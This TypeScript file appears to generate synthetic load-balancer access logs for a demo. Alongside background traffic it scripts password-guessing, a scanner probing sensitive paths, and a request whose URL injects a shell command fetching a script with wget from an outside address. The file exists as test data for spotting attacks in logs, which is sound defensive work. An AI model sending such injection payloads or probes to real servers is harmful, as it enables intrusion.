/**
 * One day of requests to the demo load balancers: background traffic from the demo world's people
 * and machines (the same addresses as the CloudTrail demo, so an IP pivot finds them in both logs),
 * plus scripted episodes that evidence queries should turn up: a password-guessing burst, a scanner
 * with malformed and oddly encoded requests, an old backup client still on TLS 1.0/1.1, a failed
 * deploy (503s with no target), websockets and gRPC, URL rewrites, and one line carrying fields
 * newer than this code knows.
 *
 * Everything is drawn from Rngs seeded by (seed, day, stream), in a fixed order, before `now` is
 * consulted: the generator's cut at `now` only drops whole files.
 */

import type { AlbEntry, AlbListenerType } from './alb.line';
import { DEMO_LOAD_BALANCERS, elbOf, type DemoLoadBalancer } from './alb.layout';
import { backgroundSeconds } from './cloudtrail.timeline';
import { DEMO_IPS, roamingIpForDay, USER_AGENTS } from './demo-world';
import { mixSeed, Rng, type Weighted } from './random';
import { epochDay } from './time';

export interface DemoRequest {
  readonly lb: DemoLoadBalancer;
  readonly node: string;
  /** Milliseconds since the epoch (for ordering and the cut at `now`). */
  readonly ms: number;
  readonly entry: AlbEntry;
}

const WEB = DEMO_LOAD_BALANCERS.find((l) => l.key === 'web')!;
const API = DEMO_LOAD_BALANCERS.find((l) => l.key === 'api')!;

const BROWSERS = [USER_AGENTS.firefox, USER_AGENTS.chrome, USER_AGENTS.edge] as const;
const CURL = 'curl/8.5.0';
const GRPC = 'grpc-java-netty/1.62.2';
/** A scanner that puts quotes in its user agent: logged escaped (\"). */
const SCANNER = 'Mozilla/5.0 (compatible; "Nuclei" - projectdiscovery.io)';

const TLS12 = { cipher: 'ECDHE-RSA-AES128-GCM-SHA256', protocol: 'TLSv1.2' } as const;
const TLS13 = { cipher: 'TLS_AES_128_GCM_SHA256', protocol: 'TLSv1.3' } as const;
const TLS10 = { cipher: 'ECDHE-RSA-AES128-SHA', protocol: 'TLSv1' } as const;
const TLS11 = { cipher: 'ECDHE-RSA-AES256-SHA', protocol: 'TLSv1.1' } as const;

interface Client {
  readonly ip: string;
  /** null: the client sent none (logged "-"). */
  readonly agent: string | null;
}

function clientsOf(day: number): Weighted<Client>[] {
  return [
    { weight: 14, value: { ip: DEMO_IPS.aliceOffice, agent: USER_AGENTS.firefox } },
    { weight: 12, value: { ip: DEMO_IPS.bobOffice, agent: USER_AGENTS.chrome } },
    { weight: 10, value: { ip: DEMO_IPS.carolOffice, agent: USER_AGENTS.chrome } },
    { weight: 6, value: { ip: DEMO_IPS.daveOffice, agent: USER_AGENTS.edge } },
    { weight: 5, value: { ip: DEMO_IPS.bobHome, agent: USER_AGENTS.chrome } },
    { weight: 5, value: { ip: DEMO_IPS.aliceIpv6, agent: USER_AGENTS.firefox } },
    { weight: 4, value: { ip: DEMO_IPS.carolIpv6, agent: USER_AGENTS.chrome } },
    { weight: 3, value: { ip: roamingIpForDay(day), agent: USER_AGENTS.chrome } },
    { weight: 6, value: { ip: DEMO_IPS.ciRunner, agent: CURL } },
    { weight: 5, value: { ip: DEMO_IPS.partner, agent: USER_AGENTS.python } },
  ];
}

const WEB_PATHS: readonly Weighted<string>[] = [
  { weight: 10, value: '/' },
  { weight: 8, value: '/products' },
  { weight: 8, value: '/products/{id}' },
  { weight: 4, value: '/cart' },
  { weight: 2, value: '/checkout' },
  { weight: 3, value: '/account' },
  { weight: 10, value: '/static/app.js' },
  { weight: 6, value: '/static/app.css' },
  { weight: 4, value: '/api/session' },
  { weight: 2, value: '/search?q=gift+card' },
];

const API_PATHS: readonly Weighted<string>[] = [
  { weight: 8, value: '/v1/orders' },
  { weight: 10, value: '/v1/orders/{id}' },
  { weight: 3, value: '/v1/health' },
  { weight: 4, value: '/v1/catalog/items?page=2' },
];

/** What happened to a request: the load balancer's and the target's status, and whether a target saw it. */
interface Outcome {
  readonly elb: number;
  readonly target: number | null;
  /** False: no target (redirect, fixed response, no healthy target, malformed request). */
  readonly reached: boolean;
  readonly targetTimedOut?: boolean;
}

const OUTCOMES: readonly Weighted<Outcome>[] = [
  { weight: 900, value: { elb: 200, target: 200, reached: true } },
  { weight: 40, value: { elb: 304, target: 304, reached: true } },
  { weight: 30, value: { elb: 404, target: 404, reached: true } },
  { weight: 8, value: { elb: 302, target: 302, reached: true } },
  { weight: 6, value: { elb: 500, target: 500, reached: true } },
  { weight: 4, value: { elb: 502, target: null, reached: true, targetTimedOut: true } },
  { weight: 2, value: { elb: 504, target: null, reached: true, targetTimedOut: true } },
  { weight: 3, value: { elb: 460, target: null, reached: true, targetTimedOut: true } },
  { weight: 2, value: { elb: 503, target: null, reached: false } },
];

/** Builds one entry with the load balancer's defaults; every field can be overridden. */
class EntryFactory {
  constructor(
    private readonly rng: Rng,
    private readonly dayStartMs: number,
  ) {}

  private micros(ms: number, extraMicros: number): string {
    return `${new Date(ms).toISOString().slice(0, 23)}${String(extraMicros).padStart(3, '0')}Z`;
  }

  private traceId(ms: number): string {
    return `Root=1-${Math.floor(ms / 1000).toString(16).padStart(8, '0')}-${this.rng.hex(24)}`;
  }

  request(
    l: DemoLoadBalancer,
    second: number,
    o: {
      type: AlbListenerType;
      client: Client;
      verb: string | null;
      path: string | null;
      proto?: string | null;
      outcome: Outcome;
      tls?: { cipher: string; protocol: string } | null;
      redirectTo?: string;
      actions?: readonly string[];
      classification?: [string, string];
      transformedUri?: string;
      extraFields?: readonly string[];
      waf?: boolean;
    },
  ): DemoRequest {
    const r = this.rng;
    const ms = this.dayStartMs + second * 1000 + r.int(0, 999);
    const secure = o.type !== 'http' && o.type !== 'ws';
    const tls = o.tls === undefined ? (secure ? (r.chance(0.3) ? TLS13 : TLS12) : null) : o.tls;
    const port = secure ? 443 : 80;
    const scheme = secure ? 'https' : 'http';
    const url = o.path === null ? null : o.path.startsWith('http') ? o.path : `${scheme}://${l.domain}:${port}${o.path}`;
    const target = o.outcome.reached ? r.pick(l.targets) : null;
    const targetTime = !o.outcome.reached || o.outcome.targetTimedOut ? -1 : Math.round(r.int(2, o.type === 'ws' || o.type === 'wss' ? 60_000 : 400)) / 1000;
    const createdMs = ms - Math.max(1, Math.round(targetTime > 0 ? targetTime * 1000 : r.int(1, 5)));
    const actions = o.actions ?? (o.redirectTo ? ['redirect'] : o.waf ? ['waf'] : o.outcome.reached || o.outcome.elb === 503 ? (secure && l.key === 'web' && o.type !== 'wss' && r.chance(0.1) ? ['authenticate', 'forward'] : ['forward']) : ['fixed-response']);
    const malformed = o.verb === null;
    const entry: AlbEntry = {
      type: o.type,
      time: this.micros(ms, r.int(0, 999)),
      elb: elbOf(l),
      clientIp: o.client.ip,
      clientPort: r.int(1024, 65535),
      target: target === null ? null : { ip: target.ip, port: target.port },
      requestProcessingTime: malformed || !o.outcome.reached ? -1 : r.int(0, 2) / 1000,
      targetProcessingTime: malformed ? -1 : targetTime,
      responseProcessingTime: malformed || !o.outcome.reached || o.outcome.targetTimedOut ? -1 : 0,
      elbStatusCode: o.outcome.elb,
      targetStatusCode: o.outcome.target,
      receivedBytes: malformed ? r.int(0, 40) : r.int(120, o.verb === 'POST' ? 4000 : 900),
      sentBytes: o.outcome.elb === 304 ? r.int(150, 300) : r.int(200, 48_000),
      verb: o.verb,
      url,
      proto: o.proto === undefined ? (o.type === 'h2' || o.type === 'grpcs' ? 'HTTP/2.0' : 'HTTP/1.1') : o.proto,
      userAgent: o.client.agent,
      sslCipher: tls?.cipher ?? null,
      sslProtocol: tls?.protocol ?? null,
      targetGroupArn: malformed || o.redirectTo || o.waf ? null : l.targetGroupArn,
      traceId: malformed ? null : this.traceId(ms),
      domainName: tls ? l.domain : null,
      chosenCertArn: tls ? l.certificateArn : null,
      matchedRulePriority: malformed ? null : o.redirectTo ? 1 : 0,
      requestCreationTime: `${new Date(createdMs).toISOString().slice(0, 23)}000Z`,
      actionsExecuted: malformed ? [] : actions,
      redirectUrl: o.redirectTo ?? null,
      errorReason: null,
      classification: o.classification?.[0] ?? null,
      classificationReason: o.classification?.[1] ?? null,
      connTraceId: `TID_${r.hex(32)}`,
      transformedHost: null,
      transformedUri: o.transformedUri ?? null,
      requestTransformStatus: o.transformedUri ? 'TransformSuccess' : null,
      ...(o.extraFields ? { extraFields: o.extraFields } : {}),
    };
    return { lb: l, node: r.pick(l.nodes), ms, entry };
  }
}

function background(f: EntryFactory, rng: Rng, l: DemoLoadBalancer, count: number, day: number): DemoRequest[] {
  const clients = clientsOf(day);
  const out: DemoRequest[] = [];
  for (const second of backgroundSeconds(rng, count)) {
    const client = rng.weighted(clients);
    const outcome = rng.weighted(OUTCOMES);
    const isBrowser = (BROWSERS as readonly (string | null)[]).includes(client.agent);
    if (l.key === 'web') {
      const path = rng.weighted(WEB_PATHS).replace('{id}', String(rng.int(1000, 99999)));
      // The shop's port-80 listener only redirects to HTTPS.
      if (rng.chance(0.08)) {
        out.push(f.request(l, second, { type: 'http', client, verb: 'GET', path, outcome: { elb: 301, target: null, reached: false }, redirectTo: `https://${l.domain}:443${path}` }));
        continue;
      }
      const type: AlbListenerType = isBrowser && rng.chance(0.6) ? 'h2' : 'https';
      out.push(f.request(l, second, { type, client, verb: path === '/api/session' && rng.chance(0.5) ? 'POST' : 'GET', path, outcome }));
    } else {
      const path = rng.weighted(API_PATHS).replace('{id}', String(rng.int(1000, 99999)));
      // Legacy paths are rewritten by a URL transform (ALB's 2025 request transforms).
      const legacy = rng.chance(0.1);
      out.push(
        f.request(l, second, {
          type: rng.chance(0.3) ? 'h2' : 'https',
          client,
          verb: path === '/v1/orders' && rng.chance(0.3) ? 'POST' : 'GET',
          path: legacy ? path.replace('/v1', '') : path,
          outcome,
          ...(legacy ? { transformedUri: `https://${l.domain}:443${path}` } : {}),
        }),
      );
    }
  }
  return out;
}

/** The day's scripted episodes; their seconds are drawn from the script's own Rng. */
function script(f: EntryFactory, rng: Rng): DemoRequest[] {
  const out: DemoRequest[] = [];
  const at = (hourFrom: number, hourTo: number): number => rng.int(hourFrom * 3600, hourTo * 3600 - 1);

  // Password guessing against the shop's login, from the address that also guesses console passwords.
  const burst = at(1, 5);
  const guesser: Client = { ip: DEMO_IPS.bruteForcer, agent: USER_AGENTS.python };
  for (let i = 0; i < 25; i++) out.push(f.request(WEB, burst + i * 13, { type: 'https', client: guesser, verb: 'POST', path: '/login', outcome: { elb: 401, target: 401, reached: true } }));

  // A scanner from the leaked-key address: probes, a WAF block, unfinished requests, a URL with a space.
  const scan = at(8, 20);
  const scanner: Client = { ip: DEMO_IPS.leakedKeyUser, agent: SCANNER };
  for (const [i, path] of ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/', '/server-status'].entries()) {
    out.push(f.request(WEB, scan + i, { type: 'https', client: scanner, verb: 'GET', path, outcome: { elb: 404, target: 404, reached: true } }));
  }
  out.push(f.request(WEB, scan + 6, { type: 'https', client: scanner, verb: 'GET', path: '/admin', outcome: { elb: 403, target: null, reached: false }, waf: true }));
  out.push(f.request(WEB, scan + 7, { type: 'http', client: { ip: scanner.ip, agent: null }, verb: null, path: null, proto: null, outcome: { elb: 400, target: null, reached: false }, tls: null }));
  out.push(f.request(WEB, scan + 8, { type: 'http', client: { ip: scanner.ip, agent: null }, verb: null, path: `http://${WEB.domain}:80-`, proto: null, outcome: { elb: 400, target: null, reached: false }, tls: null }));
  out.push(
    f.request(WEB, scan + 9, {
      type: 'http',
      client: scanner,
      verb: 'GET',
      path: '/shell?cd+/tmp;wget+ 198.51.100.99/x.sh',
      outcome: { elb: 301, target: null, reached: false },
      redirectTo: `https://${WEB.domain}:443/shell?cd+/tmp;wget+ 198.51.100.99/x.sh`,
      classification: ['Acceptable', 'SpaceInUri'],
    }),
  );

  // The on-premises backup job's old SDK still negotiates TLS 1.0 and 1.1 (weak-TLS evidence).
  const backup: Client = { ip: DEMO_IPS.backupServer, agent: USER_AGENTS.legacyJavaSdk };
  const night = at(2, 4);
  for (let i = 0; i < 8; i++) out.push(f.request(API, night + i * 37, { type: 'https', client: backup, verb: 'GET', path: '/v1/exports/orders', outcome: { elb: 200, target: 200, reached: true }, tls: i < 6 ? TLS10 : TLS11 }));

  // A deploy leaves the API without a healthy target for a minute: 503s, no target, -1 timings.
  const deploy = at(13, 16);
  for (let i = 0; i < 8; i++) out.push(f.request(API, deploy + i * 7, { type: 'https', client: { ip: DEMO_IPS.partner, agent: USER_AGENTS.python }, verb: 'GET', path: '/v1/orders', outcome: { elb: 503, target: null, reached: false } }));

  // Long-lived connections: the shop's live updates (wss), the partner's plain-text feed (ws), gRPC.
  for (const who of [{ ip: DEMO_IPS.aliceOffice, agent: USER_AGENTS.firefox }, { ip: DEMO_IPS.carolIpv6, agent: USER_AGENTS.chrome }]) {
    for (let i = 0; i < 3; i++) out.push(f.request(WEB, at(8, 18), { type: 'wss', client: who, verb: 'GET', path: '/live', outcome: { elb: 101, target: 101, reached: true } }));
  }
  const partner: Client = { ip: DEMO_IPS.partner, agent: GRPC };
  for (let i = 0; i < 3; i++) out.push(f.request(API, at(6, 22), { type: 'ws', client: { ip: DEMO_IPS.partner, agent: USER_AGENTS.python }, verb: 'GET', path: '/v1/stream', outcome: { elb: 101, target: 101, reached: true } }));
  for (let i = 0; i < 5; i++) out.push(f.request(API, at(6, 22), { type: 'grpcs', client: partner, verb: 'POST', path: '/orders.v1.OrderService/GetOrder', outcome: { elb: 200, target: 200, reached: true } }));

  // One line from a newer ALB: two fields after request_transform_status, which readers must skip.
  out.push(f.request(WEB, at(10, 11), { type: 'h2', client: { ip: DEMO_IPS.daveOffice, agent: USER_AGENTS.edge }, verb: 'GET', path: '/', outcome: { elb: 200, target: 200, reached: true }, extraFields: ['"x-new-field"', '"-"'] }));
  return out;
}

/** Every request of one UTC day, in time order (stable for equal times). */
export function requestsForDay(seed: number, dayStartMs: number, requestsPerDay: number): DemoRequest[] {
  const day = epochDay(dayStartMs);
  const scriptRng = new Rng(mixSeed('alb-script', seed, day));
  const scripted = script(new EntryFactory(scriptRng, dayStartMs), scriptRng);
  const backgroundCount = Math.max(0, requestsPerDay - scripted.length);
  const all = [...scripted];
  let left = backgroundCount;
  DEMO_LOAD_BALANCERS.forEach((l, i) => {
    const count = i === DEMO_LOAD_BALANCERS.length - 1 ? left : Math.round(backgroundCount * l.share);
    left -= count;
    const rng = new Rng(mixSeed('alb-background', seed, day, l.name));
    all.push(...background(new EntryFactory(rng, dayStartMs), rng, l, count, day));
  });
  return all.map((r, i) => [r, i] as const).sort((a, b) => a[0].ms - b[0].ms || a[1] - b[1]).map(([r]) => r);
}
